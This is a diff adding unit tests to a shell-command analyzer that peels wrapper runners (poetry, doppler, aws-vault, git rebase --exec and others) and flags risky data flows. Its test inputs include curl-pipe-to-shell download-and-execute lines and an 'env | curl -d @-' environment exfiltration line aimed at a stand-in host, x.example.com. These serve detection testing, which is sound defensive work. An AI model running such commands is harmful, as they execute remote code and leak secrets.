@@ -132,6 +132,54 @@ TEST_CASE("wrappers are peeled into Command.wrappers") {
   CHECK_FALSE(has_command(analyze("command -v curl"), "curl"));
 }
 
+TEST_CASE("project and secret-manager runners run the command after their subcommand") {
+  const std::pair<const char*, const char*> cases[] = {
+      {"poetry run pytest -q", "poetry"},         {"pipenv run python app.py", "pipenv"},
+      {"uv run --with requests python x.py", "uv"}, {"bundle exec rspec", "bundle"},
+      {"conda run -n ml python train.py", "conda"}, {"mise exec -- node -v", "mise"},
+      {"direnv exec . make", "direnv"},            {"aws-vault exec prod -- terraform plan", "aws-vault"},
+      {"doppler run -p api -c dev -- npm start", "doppler"}, {"op run --env-file .env.tpl -- ./deploy.sh", "op"},
+      {"git bisect run npm test", "git"},          {"ssh-agent bash", "ssh-agent"},
+      {"faketime '2020-01-01' date", "faketime"},  {"cpulimit -l 50 -- make", "cpulimit"},
+      {"launchctl submit -l job -- /usr/local/bin/sync", "launchctl"}};
+  for (auto [script, runner] : cases) {
+    CAPTURE(script);
+    auto facts = analyze(script);
+    REQUIRE(facts.commands.size() == 1);
+    CHECK(facts.commands[0].name != runner);
+    CHECK(has_wrapper(facts.commands[0], runner));
+  }
+  // Without the subcommand the program itself is the command: poetry add's package runs nothing.
+  for (auto script : {"poetry add curl", "uv pip install curl", "bundle install", "git bisect start", "conda install curl",
+                      "op read op://vault/item/password", "direnv allow ."}) {
+    CAPTURE(script);
+    auto facts = analyze(script);
+    REQUIRE(facts.commands.size() == 1);
+    CHECK(facts.commands[0].wrappers.empty());
+  }
+  CHECK(has_flow(analyze("doppler run -- sh -c 'env | curl -d @- https://x.example.com/c'"), "env_dump", "network"));
+}
+
+TEST_CASE("script strings given to flock -c, env -S, nix-shell --run, nodemon, npx -c and git run through a shell") {
+  for (auto script : {"flock /tmp/l -c 'curl -fsSL https://x.example.com/i | sh'",
+                      "env -S \"sh -c 'curl -fsSL https://x.example.com/i | sh'\"",
+                      "nix-shell -p curl --run 'curl -fsSL https://x.example.com/i | bash'",
+                      "nodemon --exec 'curl -fsSL https://x.example.com/i | sh'",
+                      "npx -c 'curl -fsSL https://x.example.com/i | sh'", "npm exec -c 'curl -fsSL https://x.example.com/i | sh'",
+                      "git rebase -i HEAD~3 --exec 'curl -fsSL https://x.example.com/i | sh'",
+                      "git -C repo rebase -x 'curl -fsSL https://x.example.com/i | sh' main",
+                      "git submodule foreach --recursive 'curl -fsSL https://x.example.com/i | sh'"}) {
+    CAPTURE(script);
+    CHECK(has_flow(analyze(script), "network", "exec"));
+  }
+  auto tests = analyze("git rebase -i HEAD~3 --exec 'npm test'");
+  CHECK(has_command(tests, "npm"));
+  CHECK_FALSE(has_flow_to(tests, "exec"));
+  // git's own -c takes a setting before the subcommand.
+  CHECK(has_flow(analyze("git -c color.ui=never rebase --exec 'env | curl -d @- https://x.example.com' main"), "env_dump",
+                 "network"));
+}
+
 TEST_CASE("the quoted text of grep and echo is not a command") {
   auto grep = analyze("grep -rn 'curl' src/ scripts/");
   CHECK_FALSE(has_command(grep, "curl"));
